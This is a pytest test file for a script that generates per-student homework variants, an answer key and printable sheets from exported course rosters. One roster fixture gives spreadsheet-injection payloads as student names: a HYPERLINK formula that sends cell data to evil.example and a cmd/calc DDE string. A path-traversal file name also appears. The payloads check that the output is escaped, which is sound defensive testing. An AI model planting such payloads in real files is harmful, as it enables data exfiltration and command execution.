"""scripts/variants.py: each student's numbers, the answer key against brute force, the sheets
and the key book, rosters as platforms export them, and the refusal of every malformed input
with nothing written."""

from __future__ import annotations

import csv
import html
import io
import os
import random
import re
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import numpy as np
import pytest
from browser import require_chromium
from conftest import SCRIPTS, expect_refusal, random_problem, run_script, snapshot

from chapter.course import roster, sheets, variants
from chapter.model import rnn2d

NAME = "Zoë Ł. 山田"
SEED = "fall-2026"


def write_roster(path: Path, ids: list[str], names: list[str] | None = None) -> Path:
    names = names or [f"Student {k}" for k in range(len(ids))]
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["student_id", "name"])
        writer.writerows(zip(ids, names, strict=True))
    return path


def ids(count: int) -> list[str]:
    return ["a1", *(f"s{k:03d}" for k in range(2, count + 1))]


def roster_of(tmp: Path, count: int) -> Path:
    return write_roster(
        tmp / "roster.csv", ids(count), [NAME, *(f"Student {k}" for k in range(2, count + 1))]
    )


def tree(folder: Path) -> dict[str, bytes]:
    """Every file under folder by relative path, with its bytes."""
    return {
        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


def read_key(out: Path) -> list[dict[str, str]]:
    with (out / "answer-key.csv").open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def variant_of(row: dict[str, str]) -> variants.Variant:
    return variants.Variant(**{k: int(row[k]) for k in variants.NUMBER_COLUMNS})


def make(tmp: Path, data: bytes, *options: str, name: str = "out") -> Path:
    """variants.main on a roster of these bytes, Markdown sheets only; the output folder."""
    (tmp / f"{name}.csv").write_bytes(data)
    out = tmp / name
    args = ["--roster", str(tmp / f"{name}.csv"), "--seed", SEED, "--out", str(out)]
    assert variants.main([*args, "--no-pdf", *options]) == 0
    return out


@pytest.fixture(scope="module")
def key_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 30-student roster written out once, Markdown sheets only."""
    tmp = tmp_path_factory.mktemp("variants")
    out = tmp / "out"
    status = variants.main(
        ["--roster", str(roster_of(tmp, 30)), "--seed", SEED, "--out", str(out), "--no-pdf"]
    )
    assert status == 0
    return out


# Drawing: ranges, differences, uniqueness, seeds and roster order.


def brute_force_masks(n: int, t: int, w: int) -> dict[str, np.ndarray]:
    i, j = np.indices((n, n))
    return {
        "causal": j <= i,
        "strided": (j <= i) & (i - j <= t),
        "windowed": (j <= i) & (i // w == j // w),
    }


def check_ranges(v: variants.Variant) -> None:
    assert 8 <= v.n <= 24 and v.n in variants.N_VALUES, v
    assert 2 <= v.t <= v.n - 2, v
    assert 3 <= v.w < v.n and v.n % v.w == 0, v
    assert 1 <= v.c <= 8 and 2 <= v.h <= 64, v
    assert 1_000 <= v.N <= 1_000_000 and v.N % v.w == 0, v
    masks = brute_force_masks(v.n, v.t, v.w)
    causal = masks["causal"]
    for other in ("strided", "windowed"):
        assert (masks[other] != causal).sum() * 4 >= causal.sum(), (v, other)


def test_numbers_stay_in_their_ranges_for_many_seeds() -> None:
    drawn = [variants.draw(f"seed{k}", f"s{j}") for k in range(40) for j in range(40)]
    for v in drawn:
        check_ranges(v)
    assert {v.n for v in drawn} == set(variants.N_VALUES)
    assert {v.c for v in drawn} == set(range(1, 9))
    assert {v.h for v in drawn} == set(range(2, 65))
    # t reaches the largest value the quarter rule allows for n = 24: 11.
    assert max(v.t for v in drawn if v.n == 24) == 11


def test_no_two_of_300_students_share_numbers_or_1d_counts() -> None:
    for seed in ("1", "2", SEED):
        assigned = variants.assign(seed, ids(300)).values()
        assert len({(v.n, v.t, v.w, v.c, v.h) for v in assigned}) == 300
        for name in ("causal_N", "strided_N", "windowed_N"):
            assert len({getattr(variants.answers(v), name) for v in assigned}) == 300, name


def test_150_students_give_150_distinct_values_of_each_answer() -> None:
    # The course asks at least 120; redrawing a repeated parameters or total gives all 150.
    for seed in ("1", "2", SEED):
        assigned = variants.assign(seed, ids(150)).values()
        for name in ("causal_N", "strided_N", "windowed_N", "parameters", "total"):
            distinct = len({getattr(variants.answers(v), name) for v in assigned})
            assert distinct == 150, (seed, name, distinct)


def test_collisions_draw_again_whatever_the_roster_order(monkeypatch: pytest.MonkeyPatch) -> None:
    real = variants.draw
    same = variants.Variant(8, 2, 4, 1, 2, 4000)

    def crowded(seed: str, student_id: str, attempt: int = 0) -> variants.Variant:
        # Everyone's first draw is the same: all but one must draw again.
        return same if attempt == 0 else real(seed, student_id, attempt)

    monkeypatch.setattr(variants, "draw", crowded)
    roster_ids = ids(50)
    first = variants.assign(SEED, roster_ids)
    assert len({v for v in first.values()}) == 50
    shuffled = roster_ids[:]
    random.Random(0).shuffle(shuffled)
    assert variants.assign(SEED, shuffled) == first
    assert sum(v == same for v in first.values()) == 1


def test_roster_order_does_not_change_anyones_numbers() -> None:
    roster_ids = ids(120)
    assert variants.assign(SEED, roster_ids[::-1]) == variants.assign(SEED, roster_ids)


def test_another_seed_gives_other_numbers() -> None:
    one, other = variants.assign("1", ids(30)), variants.assign("2", ids(30))
    changed = sum(one[s] != other[s] for s in one)
    assert changed >= 28, f"only {changed} of 30 students got new numbers"


def _a_newcomer_who_moves_someone(base: list[str]) -> str:
    """An id that, added to base without --previous, changes an earlier student's numbers:
    a real collision, found by trying ids in turn."""
    before = variants.assign(SEED, base)
    for k in range(2000):
        newcomer = f"x{k}"
        after = variants.assign(SEED, [*base, newcomer])
        if any(after[s] != before[s] for s in base):
            return newcomer
    raise AssertionError("no colliding newcomer among 2000 ids")


def test_previous_keeps_150_rows_byte_identical_through_a_collision(tmp_path: Path) -> None:
    base = ids(150)
    first = make(tmp_path, _roster_bytes(base), name="first")
    newcomer = _a_newcomer_who_moves_someone(base)
    late = [newcomer, *(f"late{k}" for k in range(9))]
    # Without --previous the collision moves someone: the guarantee needs --previous.
    plain = make(tmp_path, _roster_bytes(base + late), name="plain")
    rows = lambda out: (out / "answer-key.csv").read_bytes().splitlines()  # noqa: E731
    assert rows(plain)[1:151] != rows(first)[1:151]
    kept = make(
        tmp_path,
        _roster_bytes(base + late),
        "--previous",
        str(first / "answer-key.csv"),
        name="kept",
    )
    assert rows(kept)[:151] == rows(first)[:151]
    assert len(rows(kept)) == 161
    numbers = [variant_of(r) for r in read_key(kept)]
    assert len({(v.n, v.t, v.w, v.c, v.h) for v in numbers}) == 160
    assert len({v.N for v in numbers}) == 160
    # A student of the earlier key who left the roster keeps their row, without a sheet.
    shrunk = make(
        tmp_path,
        _roster_bytes(base[1:]),
        "--previous",
        str(first / "answer-key.csv"),
        name="shrunk",
    )
    assert sorted(rows(shrunk)) == sorted(rows(first))
    assert not any(p.name.startswith("a1-") for p in (shrunk / "sheets").iterdir())


def _roster_bytes(student_ids: list[str]) -> bytes:
    return "\n".join(["student_id,name", *(f"{s},Student {s}" for s in student_ids), ""]).encode()


def _key_with(tmp: Path, edit) -> Path:
    out = make(tmp, _roster_bytes(ids(3)), name="earlier")
    rows = read_key(out)
    edit(rows)
    path = tmp / "previous.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]) if rows else ["student_id"])
        writer.writeheader()
        writer.writerows(rows)
    return path


BAD_PREVIOUS = {
    "t out of range": (lambda rows: rows[0].update(t="1"), "line 2: t = 1"),
    "N not a multiple of w": (
        lambda rows: rows[1].update(N=str(int(rows[1]["N"]) + 1)),
        "line 3: N =",
    ),
    "not digits": (lambda rows: rows[2].update(h="١٢"), "line 4: a number is not written"),
    "two students alike": (
        lambda rows: rows[1].update({k: rows[0][k] for k in variants.NUMBER_COLUMNS}),
        "line 3: numbers an earlier row already holds",
    ),
    "repeated id": (lambda rows: rows[1].update(student_id="a1"), "line 3: student_id 'a1'"),
    "no N column": (lambda rows: [r.pop("N") for r in rows], "no N column"),
}


@pytest.mark.parametrize("edit,reason", BAD_PREVIOUS.values(), ids=BAD_PREVIOUS.keys())
def test_a_malformed_previous_key_is_refused(edit, reason: str, tmp_path: Path, command) -> None:
    previous = _key_with(tmp_path, edit)
    roster_path = roster_of(tmp_path, 3)
    before = snapshot(tmp_path)
    result = command(
        "variants",
        ["--roster", str(roster_path), "--seed", SEED, "--out", "o", "--previous", str(previous)],
    )
    expect_refusal(result, "--previous")
    assert reason in result[2], result[2]
    assert snapshot(tmp_path) == before


def _two_runs(tmp_path: Path, data: bytes, *options: str, timeout: float) -> list[dict]:
    """The files of two runs on one roster and seed, into tmp_path/one and tmp_path/two."""
    (tmp_path / "roster.csv").write_bytes(data)
    runs = []
    for name in ("one", "two"):
        out = str(tmp_path / name)
        args = ("--roster", str(tmp_path / "roster.csv"), "--seed", SEED, "--out", out, *options)
        result = run_script("variants.py", *args, timeout=timeout)
        assert result.returncode == 0, result.stderr
        runs.append(tree(tmp_path / name))
    return runs


def test_same_inputs_give_the_same_bytes_without_pdfs(tmp_path: Path) -> None:
    runs = _two_runs(tmp_path, _roster_bytes(ids(5)), "--no-pdf", timeout=120)
    assert runs[0] == runs[1]
    assert {"answer-key.csv", "key.html"} <= runs[0].keys()


# Rosters as platforms export them.

CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Homework 1 (123),Current Score\n"
    "    Points Possible,,,,,10,\n"
    '"Lovelace, Ada",1001,U-17,ada,Section A,9,90.0\n'
    '"Student, Test",9999,,test,Section A,,\n'
    '"Noether, Emmy",1002,U-18,emmy,Section B,10,100.0\n'
)
GRADESCOPE = (
    "First Name,Last Name,SID,Email,Role\n"
    "Ada,Lovelace,,ada.lovelace@uni.example,Student\n"
    "Emmy,Noether,,Emmy.Noether+hw@uni.example,Student\n"
    "Tim,Assistant,,ta@uni.example,TA\n"
)
MOODLE = (
    "First name,Surname,ID number,Institution,Department,Email address\n"
    "Ada,Lovelace,,Uni,CS,ada@uni.example\n"
    "Emmy,Noether,,Uni,Maths,emmy@uni.example\n"
)
BLACKBOARD = (
    '"Last Name"\t"First Name"\t"Username"\t"Student ID"\t"Last Access"\t"Availability"\n'
    '"Lovelace"\t"Ada"\t"alovelace"\t""\t"2026-09-01"\t"Yes"\n'
    '"Noether"\t"Emmy"\t"enoether"\t""\t"2026-09-02"\t"Yes"\n'
)
SCRIPTS_ROSTER = "student_id,name\ns1,王小明\ns2,देवनागरी शर्मा\ns3,สมชาย ใจดี\ns4,فاطمة الزهراء\n"
FORMULAS = (
    "student_id,name\n"
    's1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\n'
    "s2,+cmd|' /C calc'!A0\n"
    "s3,@SUM(1+1)\n"
    "s4,-2+3\n"
    "=1+1,'quoted\n"
)

ROSTERS = {
    "Canvas gradebook export": (
        CANVAS.encode("utf-8-sig"),
        ["1001", "9999", "1002"],
        ["Lovelace, Ada", "Student, Test", "Noether, Emmy"],
    ),
    "Gradescope roster, e-mails": (
        GRADESCOPE.encode(),
        ["ada.lovelace@uni.example", "Emmy.Noether+hw@uni.example"],
        ["Ada Lovelace", "Emmy Noether"],
    ),
    "Moodle participants": (
        MOODLE.encode(),
        ["ada@uni.example", "emmy@uni.example"],
        ["Ada Lovelace", "Emmy Noether"],
    ),
    "Blackboard, UTF-16 and tabs": (
        BLACKBOARD.encode("utf-16"),
        ["alovelace", "enoether"],
        ["Ada Lovelace", "Emmy Noether"],
    ),
    "Chinese, Devanagari, Thai and Arabic names": (
        SCRIPTS_ROSTER.encode(),
        ["s1", "s2", "s3", "s4"],
        ["王小明", "देवनागरी शर्मा", "สมชาย ใจดี", "فاطمة الزهراء"],
    ),
    "Latin-1 from Excel": (
        "student_id;name\nz1;Zoë Müller\nz2;François Señor\n".encode("cp1252"),
        ["z1", "z2"],
        ["Zoë Müller", "François Señor"],
    ),
    "formulas for names": (
        FORMULAS.encode(),
        ["s1", "s2", "s3", "s4", "=1+1"],
        [
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3",
            "'quoted",
        ],
    ),
}


@pytest.mark.parametrize("data,want_ids,want_names", ROSTERS.values(), ids=ROSTERS.keys())
def test_an_exported_roster_gives_sheets_and_a_key(
    data: bytes, want_ids: list[str], want_names: list[str], tmp_path: Path
) -> None:
    out = make(tmp_path, data)
    rows = read_key(out)
    assert [roster.read_cell(r["student_id"]) for r in rows] == want_ids
    assert [roster.read_cell(r["name"]) for r in rows] == want_names
    book = (out / "key.html").read_text(encoding="utf-8")
    for row, student_id, name in zip(rows, want_ids, want_names, strict=True):
        sheet = (out / "sheets" / f"{row['file']}.md").read_text(encoding="utf-8")
        html_text = sheets.sheet_html(sheet, {}, "t")
        # The id and the name print as themselves, in the sheet and in the key book.
        for text in (student_id, name):
            assert text in html.unescape(html_text) and text in html.unescape(book), text
        assert row["file"] == roster.file_stem(student_id)


def test_only_the_id_and_the_name_reach_the_sheets(tmp_path: Path) -> None:
    out = make(tmp_path, CANVAS.encode())
    everything = "".join(p.read_text(encoding="utf-8") for p in (out / "sheets").glob("*.md"))
    for private in ("U-17", "ada", "Section A", "90.0", "Points Possible"):
        assert not re.search(rf"\b{re.escape(private)}\b", everything), private
    assert list(read_key(out)[0]) == list(variants.KEY_COLUMNS)


def test_no_key_cell_is_a_spreadsheet_formula(tmp_path: Path) -> None:
    out = make(tmp_path, FORMULAS.encode())
    with (out / "answer-key.csv").open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(roster.FORMULA_START)]
    assert "'=HYPERLINK(" in "".join(cells)
    # Reading back undoes the quote, even for a value that began with one.
    assert read_key(out)[4]["name"] == "''quoted"
    assert roster.read_cell(roster.safe_cell("'quoted")) == "'quoted"


def test_a_latin_1_roster_is_read_with_a_one_line_notice(tmp_path: Path, command) -> None:
    (tmp_path / "r.csv").write_bytes("student_id,name\nz1,Zoë\n".encode("cp1252"))
    status, _, err = command(
        "variants", ["--roster", "r.csv", "--seed", SEED, "--out", "o", "--no-pdf"]
    )
    assert status == 0
    assert err.splitlines() == [
        "variants.py: note: r.csv: not UTF-8 (line 2, byte 22): read as Windows-1252"
    ]


def test_staff_rows_are_left_out_with_a_notice(tmp_path: Path, command) -> None:
    (tmp_path / "r.csv").write_bytes(GRADESCOPE.encode())
    status, _, err = command(
        "variants", ["--roster", "r.csv", "--seed", SEED, "--out", "o", "--no-pdf"]
    )
    assert status == 0
    assert "1 rows whose Role is not Student were left out" in err
    assert len(read_key(tmp_path / "o")) == 2


def test_id_and_name_columns_can_be_named(tmp_path: Path) -> None:
    out = make(
        tmp_path,
        CANVAS.encode(),
        "--id-column",
        "sis login id",
        "--name-columns",
        "Section,Student",
    )
    rows = read_key(out)
    assert [r["student_id"] for r in rows] == ["ada", "test", "emmy"]
    assert rows[0]["name"] == "Section A Lovelace, Ada"


def test_file_names_are_ascii_unique_and_safe() -> None:
    tricky = [
        "ada@uni.example",
        "ADA@uni.example ",
        "../etc/passwd",
        "CON",
        "con.txt",
        "王小明",
        "สมชาย",
        "a b",
        ".hidden",
        "x" * 200,
        "Zoë",
        "Zoe",
    ]
    stems = [roster.file_stem(s) for s in tricky]
    assert len({s.casefold() for s in stems}) == len(tricky)
    for stem in stems:
        assert re.fullmatch(r"[a-z0-9][a-z0-9-]{0,39}-[0-9a-f]{10}", stem), stem
        assert not re.match(r"(con|prn|aux|nul|com[0-9]|lpt[0-9])(\.|$)", stem)
    assert roster.file_stem("Zoë") != roster.file_stem("Zoe")


# The key against brute force.


def test_key_counts_equal_brute_force_masks(key_run: Path) -> None:
    for row in read_key(key_run):
        v = variant_of(row)
        check_ranges(v)
        for name, mask in brute_force_masks(v.n, v.t, v.w).items():
            assert int(row[name]) == int(mask.sum()), (row["student_id"], name)
        # N is too long for a mask: count row by row, as the page derives it.
        i = np.arange(v.N)
        assert int(row["causal_N"]) == int((i + 1).sum())
        assert int(row["strided_N"]) == int((np.minimum(i, v.t) + 1).sum())
        assert int(row["windowed_N"]) == int((i % v.w + 1).sum())


def test_key_readings_equal_brute_force(key_run: Path) -> None:
    rows = read_key(key_run)
    for row in rows:
        v = variant_of(row)
        i, j = np.indices((v.n, v.n))
        with_self = (j <= i) & (i - j <= v.t - 1)
        blocks = i // v.w == j // v.w
        assert int(row["strided_t_with_self"]) == int(with_self.sum())
        assert int(row["windowed_full_blocks"]) == int(blocks.sum())
        big = np.arange(v.N)
        assert int(row["strided_N_t_with_self"]) == int((np.minimum(big, v.t - 1) + 1).sum())
        assert int(row["windowed_N_full_blocks"]) == v.N * v.w
        union = (j <= i) | blocks
        assert int(row["windowed_union"]) == int(union.sum())
        sparse = (j <= i) & ((i - j < v.t) | ((i - j) % v.t == 0))
        assert int(row["strided_sparse_transformer"]) == int(sparse.sum())
        # N x N is too large for a mask: row by row, and the union as causal plus the
        # upper triangles of the windows.
        sparse_rows = np.minimum(big + 1, v.t) + big // v.t
        assert int(row["strided_N_sparse_transformer"]) == int(sparse_rows.sum())
        assert int(row["windowed_N_union"]) == v.N * (v.N + 1) // 2 + v.N * (v.w - 1) // 2
        assert int(row["multiply_adds"]) == int(row["multiplies"])
        assert int(row["flops_2_per_multiply_add"]) == 2 * int(row["multiplies"])
        weights = rnn2d.init_weights(v.c, v.h, np.random.default_rng(0))
        assert int(row["parameters_with_bias"]) == sum(w.size for w in weights) + v.h
        assert int(row["parameters_per_cell"]) == v.n**2 * sum(w.size for w in weights)
    cheapest = sorted(rows, key=lambda r: int(r["total"]))[:2]
    for row in cheapest:
        v = variant_of(row)
        problem = random_problem(v.n, v.c, v.h)
        _, count = rnn2d.rnn2d_counted(*problem)
        assert int(row["total_with_sigma"]) == count.multiplies + count.adds + count.nonlinearities
        _, skipped = rnn2d.rnn2d_counted(*problem, skip_border=True)
        assert int(row["total_border_skipped"]) == skipped.multiplies + skipped.adds


def test_key_parameters_equal_the_weight_arrays(key_run: Path) -> None:
    for row in read_key(key_run):
        v = variant_of(row)
        weights = rnn2d.init_weights(v.c, v.h, np.random.default_rng(0))
        assert int(row["parameters"]) == sum(w.size for w in weights), row["student_id"]


def test_key_operations_equal_an_instrumented_run(key_run: Path) -> None:
    rows = read_key(key_run)
    for row in rows:
        assert int(row["total"]) == int(row["multiplies"]) + int(row["adds"])
    # The instrumented loop does every scalar operation in Python: the three cheapest
    # students whose c and h differ, so that swapping the two would show.
    cheapest = sorted((r for r in rows if r["c"] != r["h"]), key=lambda r: int(r["total"]))[:3]
    for row in cheapest:
        v = variant_of(row)
        _, count = rnn2d.rnn2d_counted(*random_problem(v.n, v.c, v.h))
        assert (count.multiplies, count.adds) == (int(row["multiplies"]), int(row["adds"]))


def test_key_columns_and_roster_order(key_run: Path) -> None:
    with (key_run / "answer-key.csv").open(encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    assert header == list(variants.KEY_COLUMNS)
    assert ",".join(header[:13]) == (
        "student_id,n,t,w,c,h,causal,strided,windowed,parameters,multiplies,adds,total"
    )
    assert [row["student_id"] for row in read_key(key_run)] == ids(30)


def svg_cells(svg: str) -> np.ndarray:
    """The shaded cells of a grid drawn by sheets.grid_svg, read back from its rects."""
    n = int(float(re.search(r'viewBox="[-\d.]+ [-\d.]+ ([\d.]+)', svg).group(1)) - 1.8 + 0.5)
    cells = np.zeros((n, n), dtype=bool)
    for x, y in re.findall(r'<rect x="(\d+)" y="(\d+)" width="1" height="1"/>', svg):
        cells[int(y), int(x)] = True
    return cells


def test_the_key_book_has_one_page_per_student_with_their_grids(key_run: Path) -> None:
    book = (key_run / "key.html").read_text(encoding="utf-8")
    pages = book.split('<section class="student">')[1:]
    rows = read_key(key_run)
    assert len(pages) == len(rows)
    for page, row in zip(pages, rows, strict=True):
        v = variant_of(row)
        assert f"<bdi>{row['student_id']}</bdi>" in page
        grids = re.findall(r"<svg.*?</svg>", page, flags=re.S)
        masks = brute_force_masks(v.n, v.t, v.w)
        assert [svg_cells(g).tolist() for g in grids] == [
            masks[k].tolist() for k in ("causal", "strided", "windowed")
        ]
        for name in ("total", "windowed_N", "total_border_skipped"):
            assert f"{int(row[name]):,}" in page, name


def test_blank_grids_shade_nothing(key_run: Path) -> None:
    sizes = {variant_of(row).n for row in read_key(key_run)}
    grids = key_run / "sheets" / "grids"
    assert {p.name for p in grids.iterdir()} == {f"{n}.svg" for n in sizes}
    for n in sizes:
        svg = (grids / f"{n}.svg").read_text(encoding="utf-8")
        assert svg_cells(svg).shape == (n, n) and not svg_cells(svg).any()
        assert svg.count("<line") == 2 * (n + 1)


def test_sheets_restate_the_problems_with_each_students_numbers(key_run: Path) -> None:
    for row in read_key(key_run):
        v = variant_of(row)
        text = (key_run / "sheets" / f"{row['file']}.md").read_text(encoding="utf-8")
        for needle in (
            f"**n = {v.n}**",
            f"**t = {v.t}**",
            f"**w = {v.w}**",
            f"**N = {v.N}**",
            f"**c = {v.c}**",
            f"**h = {v.h}**",
            "(3 points) Pay attention",
            "(3 points) RNNs for images",
        ):
            assert needle in text, (row["student_id"], needle)
        assert text.count(f'src="grids/{v.n}.svg"') == 3
        assert text.count('<div class="answer') == 6
        # The answers are not on the sheet.
        for name in ("total", "strided", "causal_N", "strided_N", "windowed_N", "parameters"):
            assert not re.search(rf"\b{row[name]}\b", text), name


def test_course_due_date_and_points_come_from_options(tmp_path: Path) -> None:
    out = make(
        tmp_path,
        _roster_bytes(["a1"]),
        "--course",
        "CS *7643*",
        "--due",
        "9 Oct <23:59>",
        "--points",
        "4,2",
    )
    text = next((out / "sheets").glob("*.md")).read_text(encoding="utf-8")
    html_text = sheets.sheet_html(text, {}, "t")
    assert "<h1>CS *7643*: Homework 4" in html_text
    assert "9 Oct &lt;23:59&gt;" in html_text
    assert "1. (4 points) Pay attention" in text and "2. (2 points) RNNs" in text


def test_utf8_names_survive_in_the_key_and_the_sheets(key_run: Path) -> None:
    row = read_key(key_run)[0]
    assert row["name"] == NAME
    assert NAME in (key_run / "sheets" / f"{row['file']}.md").read_text(encoding="utf-8")


def test_output_has_ordinary_permissions(tmp_path: Path) -> None:
    mask = os.umask(0o022)
    try:
        make(tmp_path, _roster_bytes(ids(2)))
    finally:
        os.umask(mask)
    for path in [tmp_path / "out", *(tmp_path / "out").rglob("*")]:
        expected = 0o755 if path.is_dir() else 0o644
        assert stat.S_IMODE(path.stat().st_mode) == expected, path


def test_an_empty_output_folder_is_filled(tmp_path: Path, command) -> None:
    (tmp_path / "out").mkdir()
    status, out, err = command(
        "variants",
        ["--roster", str(roster_of(tmp_path, 2)), "--seed", "123", "--out", "out", "--no-pdf"],
    )
    assert status == 0, err
    assert (tmp_path / "out" / "answer-key.csv").is_file()


# Fonts and Chromium.


def test_names_no_font_draws_are_named_before_printing(capsys) -> None:
    covered = lambda ch: ord(ch) < 0x3000  # noqa: E731 - no CJK font
    students = [roster.Student("s1", "Ada"), roster.Student("s2", "山田 Ada")]
    assert sheets.missing_glyphs(["Ada", "山田 Ada"], covered) == {"山田 Ada": "山田"}
    variants._warn_fonts(students, covered)
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 1
    assert "'山田'" in lines[0] and "山田 Ada" in lines[0] and "fonts-noto-cjk" in lines[0]


def test_installed_fonts_cover_the_rosters_scripts() -> None:
    covered = sheets.font_coverage()
    if covered is None:
        pytest.skip("fontconfig is not installed")
    assert covered("A") and not covered("\ue000")  # a private-use character: no font
    names = [line.split(",", 1)[1] for line in SCRIPTS_ROSTER.splitlines()[1:]]
    missing = sheets.missing_glyphs(names, covered)
    if missing and not os.environ.get("CI"):
        pytest.skip("install fonts-noto-core and fonts-noto-cjk, as .ci/run does")
    assert missing == {}


def test_chromium_is_found_on_path_or_given(tmp_path: Path, monkeypatch) -> None:
    fake = tmp_path / "bin" / "chromium"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", str(fake.parent))
    assert sheets.find_chromium(None) == fake
    assert sheets.find_chromium(fake) == fake
    assert sheets.find_chromium(tmp_path / "missing") is None
    fake.chmod(0o644)
    assert sheets.find_chromium(fake) is None


def test_a_browser_that_does_not_start_is_one_line_and_nothing_written(
    tmp_path: Path, command
) -> None:
    broken = tmp_path / "chrome"
    broken.write_text("#!/bin/sh\nexit 1\n")
    broken.chmod(0o755)
    roster_path = roster_of(tmp_path, 2)
    before = snapshot(tmp_path)
    result = command(
        "variants",
        ["--roster", str(roster_path), "--seed", SEED, "--out", "o", "--chromium", str(broken)],
    )
    expect_refusal(result, "--chromium")
    assert f"{broken} did not start" in result[2]
    assert snapshot(tmp_path) == before


# A signal mid-run leaves nothing behind.


SIGNAL_CASES = {
    "SIGTERM while the sheets are made": (signal.SIGTERM, 300, "answer-key.csv"),
    "SIGINT while the sheets are made": (signal.SIGINT, 300, "answer-key.csv"),
    "SIGTERM while Chromium prints": pytest.param(
        signal.SIGTERM, 4, "sheets/*.pdf", marks=[pytest.mark.slow, pytest.mark.browser]
    ),
}


@pytest.mark.parametrize("signum,students,made", SIGNAL_CASES.values(), ids=SIGNAL_CASES.keys())
def test_a_signal_mid_run_removes_every_temporary_file(
    signum: int, students: int, made: str, tmp_path: Path
) -> None:
    pdf = made.endswith(".pdf")
    if pdf:
        require_chromium()
    (tmp_path / "roster.csv").write_bytes(_roster_bytes(ids(students)))
    script = [sys.executable, str(SCRIPTS / "variants.py"), "--roster", "roster.csv"]
    options = ["--seed", SEED, "--out", "out", *([] if pdf else ["--no-pdf"])]
    # Chromium's profile and anything else the run puts in the temporary folder land in
    # a folder of its own, with a short name: Chromium refuses a long socket path.
    temporary = Path(tempfile.mkdtemp(prefix="variants-", dir="/tmp"))
    process = subprocess.Popen(
        [*script, *options],
        cwd=tmp_path,
        env=dict(os.environ, TMPDIR=str(temporary)),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        # Wait for the private folder that holds the key, and for a file made in it.
        deadline = time.monotonic() + 120
        staging: list[Path] = []
        while time.monotonic() < deadline and process.poll() is None:
            staging = [p for p in tmp_path.iterdir() if p.name.startswith(".out-")]
            if staging and list(staging[0].glob(made)):
                break
            time.sleep(0.02)
        assert staging and list(staging[0].glob(made)), process.communicate()[1][-2000:]
        assert stat.S_IMODE(staging[0].stat().st_mode) == 0o700
        process.send_signal(signum)
        _, err = process.communicate(timeout=60)
        left = list(temporary.iterdir())
    finally:
        process.kill()
        shutil.rmtree(temporary)
    assert process.returncode == 128 + signum, err
    assert f"stopped by signal {signum}: nothing written" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["roster.csv"]
    assert left == []


# Refusals: one line, exit 2, nothing written.


def _rows(header: str, *rows: str) -> bytes:
    return "\n".join([header, *rows, ""]).encode("utf-8")


BAD_ROSTERS: dict[str, tuple[bytes, str]] = {
    "empty file": (b"", "line 1: no header row"),
    "no id column": (_rows("name,section", "Ada,A"), "line 1: no id column (student_id, SID"),
    "header only": (_rows("student_id,name"), "no students"),
    "only Canvas's points row": (
        _rows("Student,ID,SIS User ID", "    Points Possible,,"),
        "a header but no students",
    ),
    "duplicate id": (
        _rows("student_id,name", "a1,Ada", "a2,Bo", "a1,Cy"),
        "line 4: student_id 'a1' repeats line 2",
    ),
    "ids differing in case": (_rows("SID", "ab", "AB"), "line 3: SID 'AB' repeats line 2"),
    "e-mails differing in case": (
        _rows("Email", "ada@uni.example", "Ada@Uni.example"),
        "line 3: Email 'Ada@Uni.example' repeats line 2",
    ),
    "empty id": (_rows("student_id,name", "a1,Ada", ",Bo"), "line 3: empty student_id"),
    "id too long": (_rows("student_id", "x" * 201), "line 2: student_id must be at most 200"),
    "control character in a name": (
        _rows("student_id,name", 'a1,"A\rda"'),
        "line 2: the name must be at most 200 characters with no control character",
    ),
    "NUL byte": (b"student_id\na1\x00\n", "line 2: a NUL byte"),
    "neither UTF-8 nor Windows-1252": (
        b"student_id,name\na1,Ad\x81\n",
        "line 2: neither UTF-8 nor Windows-1252",
    ),
    "broken UTF-16": (b"\xff\xfes\x00i\x00d", "not UTF-16"),
    "too few fields": (
        _rows("student_id,name", "a1,Ada", "a2"),
        "line 3: expected 2 values, got 1",
    ),
    "repeated id column": (_rows("student_id,student_id", "a1,a2"), "appears twice"),
    "unclosed quote": (_rows("student_id,name", 'a1,"Ada'), "not CSV"),
    "blank rows are skipped": (
        _rows("student_id,name", ",", "", "a1,A", " , ", "a1,B"),
        "line 6: student_id 'a1' repeats line 4",
    ),
    "over 10,000 rows": (
        _rows("student_id", *(f"s{k}" for k in range(10_001))),
        "line 10002: more than 10000 students",
    ),
}


@pytest.mark.parametrize("data,reason", BAD_ROSTERS.values(), ids=BAD_ROSTERS.keys())
def test_a_malformed_roster_is_refused_with_nothing_written(
    data: bytes, reason: str, tmp_path: Path, command
) -> None:
    (tmp_path / "roster.csv").write_bytes(data)
    before = snapshot(tmp_path)
    result = command("variants", ["--roster", "roster.csv", "--seed", SEED, "--out", "out"])
    expect_refusal(result, "--roster")
    assert reason in result[2], result[2]
    assert snapshot(tmp_path) == before


BAD_OPTIONS = {
    "unknown id column": (["--id-column", "Matrikel"], "--roster", "no 'Matrikel' column"),
    "unknown name column": (["--name-columns", "name,Nom"], "--roster", "no 'Nom' column"),
    "points": (["--points", "3"], "--points", "two whole numbers"),
    "negative points": (["--points", "3,-1"], "--points", "whole number"),
    "paper": (["--paper", "a3"], "--paper", "invalid choice"),
    "course with a newline": (["--course", "a\nb"], "--course", "printable"),
    "missing Chromium": (["--chromium", "/nonexistent/chrome"], "--chromium", "no Chromium"),
}


@pytest.mark.parametrize("options,argument,reason", BAD_OPTIONS.values(), ids=BAD_OPTIONS.keys())
def test_a_bad_option_is_refused_with_nothing_written(
    options: list[str], argument: str, reason: str, tmp_path: Path, command
) -> None:
